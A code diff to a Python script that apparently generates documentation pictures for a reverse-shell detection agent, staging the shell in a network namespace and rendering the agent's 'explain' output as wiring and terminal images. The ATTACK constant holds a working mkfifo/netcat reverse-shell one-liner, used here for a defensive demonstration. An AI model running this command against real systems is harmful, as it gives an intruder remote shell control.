@@ -1,5 +1,5 @@
 #!/usr/bin/python3
-"""Makes the pictures of docs/pictures: the wiring of a reverse shell, and the demonstration on a terminal.
+"""Makes the pictures of docs/pictures: the wiring and the explanation of a reverse shell, and the demonstration.
 
 Called by ./dev pictures, as root. It stages the shell between this host and a network namespace.
 """
@@ -21,16 +21,18 @@ sys.path.append(str(ROOT / "tests/e2e"))
 import generated
 import terminal_picture
 from attacker import Attacker
+from published import PUBLISHED
 from waiting import scaled
 
 COMMAND = "./dev pictures"
-WIRING, DEMONSTRATION = "wiring.svg", "demonstration.svg"
+WIRING, EXPLANATION, DEMONSTRATION = "wiring.svg", "explanation.svg", "demonstration.svg"
 # What anybody would type who has found a way to run commands on a host.
 ATTACK = "mkfifo f; cat f | bash -i 2>&1 | nc {address} {port} > f"
 ATTACK_LIMIT = 10
 DEMONSTRATION_LIMIT = 120
 STAGED_SHOWN = 3
 FINDING_SHOWN = "fifo-waiting-relay"
+LAST_EXPLAINED = PUBLISHED.instantScanOnSocket
 OMITTED = "\033[2m...\033[0m"
 
 
@@ -44,7 +46,12 @@ def scenarios() -> list[str]:
 
 def expected_words() -> dict[str, list[str]]:
     """Words that each picture shows, by its file."""
-    return {WIRING: ["bash (", "cat (", "/tmp/f", "FOREIGN"], DEMONSTRATION: scenarios()}
+    wired = ["bash (", "cat (", "/tmp/f", "FOREIGN"]
+    return {
+        WIRING: wired,
+        EXPLANATION: [*wired, PUBLISHED.periodScan, PUBLISHED.instantScanOnSocket],
+        DEMONSTRATION: scenarios(),
+    }
 
 
 def child_named(pid: int, name: str) -> int | None:
@@ -84,17 +91,31 @@ def attacked_host(folder):
             attack.wait()
 
 
-def wiring(agent: pathlib.Path) -> str:
+def drawn(graph: str) -> str:
+    options = ["-Nfontname=Helvetica", "-Efontname=Helvetica", "-Nfontsize=12", "-Efontsize=11"]
+    return subprocess.run(
+        ["dot", "-Tsvg", *options], input=graph, check=True, stdout=subprocess.PIPE, encoding="utf-8"
+    ).stdout
+
+
+def first_blocks(text: str) -> list[str]:
+    """The wiring, the summary and the detections up to the one that is shown last."""
+    blocks = text.split("\n\n")
+    last = next(number for number, block in enumerate(blocks) if block.startswith(f"{LAST_EXPLAINED}: "))
+    return ["$ orlim-agent explain PID", *"\n\n".join(blocks[: last + 1]).splitlines(), OMITTED]
+
+
+def explained(agent: pathlib.Path) -> tuple[str, str]:
+    """The pictures of a reverse shell: its wiring, and its explanation on a terminal."""
     with tempfile.TemporaryDirectory(prefix="orlim-picture-") as folder:
         with attacked_host(folder) as shell:
-            command = [str(agent), "explain", str(shell), "--dot"]
-            graph = subprocess.run(command, check=True, stdout=subprocess.PIPE, encoding="utf-8").stdout
-        graph = graph.replace(folder, "/tmp")
-    options = ["-Nfontname=Helvetica", "-Efontname=Helvetica", "-Nfontsize=12", "-Efontsize=11"]
-    drawn = subprocess.run(
-        ["dot", "-Tsvg", *options], input=graph, check=True, stdout=subprocess.PIPE, encoding="utf-8"
-    )
-    return drawn.stdout
+            texts = []
+            for option in (["--dot"], []):
+                command = [str(agent), "explain", str(shell), *option]
+                done = subprocess.run(command, check=True, stdout=subprocess.PIPE, encoding="utf-8")
+                texts.append(done.stdout.replace(folder, "/tmp"))
+    graph, text = texts
+    return drawn(graph), terminal_picture.svg(first_blocks(text))
 
 
 def output_on_terminal(command: list[str | pathlib.Path]) -> str:
@@ -143,8 +164,9 @@ def main() -> int:
     agent = parser.parse_args().agent.resolve()
     if os.geteuid() != 0:
         sys.exit(f"{COMMAND}: needs root, because it creates network namespaces")
-    generated.write_picture(generated.PICTURES / WIRING, COMMAND, wiring(agent))
-    generated.write_picture(generated.PICTURES / DEMONSTRATION, COMMAND, demonstration(agent))
+    made = dict(zip((WIRING, EXPLANATION), explained(agent))) | {DEMONSTRATION: demonstration(agent)}
+    for name, text in made.items():
+        generated.write_picture(generated.PICTURES / name, COMMAND, text)
     return 0
 
 
